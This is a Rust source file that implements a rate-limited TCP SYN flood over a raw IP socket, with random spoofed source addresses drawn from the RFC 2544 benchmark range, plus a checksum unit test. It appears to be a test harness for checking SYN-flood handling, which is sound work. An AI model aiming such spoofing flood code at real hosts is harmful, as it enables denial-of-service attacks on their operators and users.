//! SYNs that claim to come from everywhere: a raw IP socket, which writes its own headers.

use std::net::{Ipv4Addr, SocketAddrV4};
use std::os::fd::AsRawFd as _;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};

use anyhow::{Context as _, Result};
use nix::errno::Errno;
use nix::sys::socket::{
    AddressFamily, MsgFlags, SockFlag, SockProtocol, SockType, SockaddrIn, sendto, socket,
};

const HEADERS_LEN: usize = 40;
/// How long is slept between two bursts.
const PAUSE: Duration = Duration::from_millis(1);

/// Where the SYNs claim to come from, 198.18.0.0/15: addresses for benchmarks (RFC 2544).
const FROM: u32 = 0xc612_0000;
const FROM_MASK: u32 = 0x0001_ffff;

/// Sends SYNs, so many in a second, until `stop`, from the namespace of the calling thread. Returns how many.
///
/// # Errors
/// If the kernel refuses.
pub fn flood(target: SocketAddrV4, per_second: u32, stop: &AtomicBool) -> Result<u64> {
    // Such a socket takes the IP header from its user (raw(7)).
    let raw = socket(AddressFamily::Inet, SockType::Raw, SockFlag::empty(), SockProtocol::Raw)
        .context("cannot open a raw socket")?;
    let to = SockaddrIn::from(SocketAddrV4::new(*target.ip(), 0));
    let begun = Instant::now();
    let mut random = 0x9e37_79b9_7f4a_7c15_u64;
    let mut sent = 0_u64;
    while !stop.load(Ordering::Relaxed) {
        let due = (begun.elapsed().as_secs_f64() * f64::from(per_second)) as u64;
        while sent < due {
            // xorshift64 (Marsaglia 2003).
            random ^= random << 13;
            random ^= random >> 7;
            random ^= random << 17;
            match sendto(raw.as_raw_fd(), &syn(target, random), &to, MsgFlags::MSG_DONTWAIT) {
                Ok(_) => sent += 1,
                // The queue is full: what is late is sent later.
                Err(Errno::EAGAIN | Errno::ENOBUFS) => break,
                Err(error) => return Err(error).context("cannot send a SYN"),
            }
        }
        std::thread::sleep(PAUSE);
    }
    Ok(sent)
}

/// The headers of a SYN whose source address, source port and sequence number are random.
fn syn(target: SocketAddrV4, random: u64) -> [u8; HEADERS_LEN] {
    let source = Ipv4Addr::from(FROM | (random as u32 & FROM_MASK));
    let port = 1024 | (random >> 17) as u16;
    let sequence = (random >> 32) as u32;
    let mut bytes = [0; HEADERS_LEN];
    let (ip, tcp) = bytes.split_at_mut(20);
    // The kernel fills in identification, total length and checksum.
    ip[0] = 0x45;
    ip[2..4].copy_from_slice(&(HEADERS_LEN as u16).to_be_bytes());
    ip[6] = 0x40;
    ip[8] = 64;
    ip[9] = 6;
    ip[12..16].copy_from_slice(&source.octets());
    ip[16..20].copy_from_slice(&target.ip().octets());
    tcp[0..2].copy_from_slice(&port.to_be_bytes());
    tcp[2..4].copy_from_slice(&target.port().to_be_bytes());
    tcp[4..8].copy_from_slice(&sequence.to_be_bytes());
    tcp[12] = 5 << 4;
    tcp[13] = 0x02;
    tcp[14..16].copy_from_slice(&64_240_u16.to_be_bytes());
    // Over the addresses, protocol and length, and the header (RFC 9293 section 3.1).
    let sum = words(&ip[12..20]) + 6 + 20 + words(tcp);
    let folded = (sum & 0xffff) + (sum >> 16);
    let folded = (folded & 0xffff) + (folded >> 16);
    tcp[16..18].copy_from_slice(&(!(folded as u16)).to_be_bytes());
    bytes
}

fn words(bytes: &[u8]) -> u32 {
    bytes.chunks_exact(2).map(|pair| u32::from(u16::from_be_bytes([pair[0], pair[1]]))).sum()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_syn_has_the_right_checksum_and_comes_from_the_range_for_benchmarks() {
        let target = SocketAddrV4::new(Ipv4Addr::new(203, 0, 113, 1), 7000);
        for random in [1, u64::MAX, 0x0123_4567_89ab_cdef] {
            let bytes = syn(target, random);
            let sum = words(&bytes[12..20]) + 6 + 20 + words(&bytes[20..]);
            let folded = (sum & 0xffff) + (sum >> 16);
            assert_eq!((folded & 0xffff) + (folded >> 16), 0xffff);
            assert_eq!((bytes[12], bytes[13] & 0xfe), (198, 18));
        }
    }
}
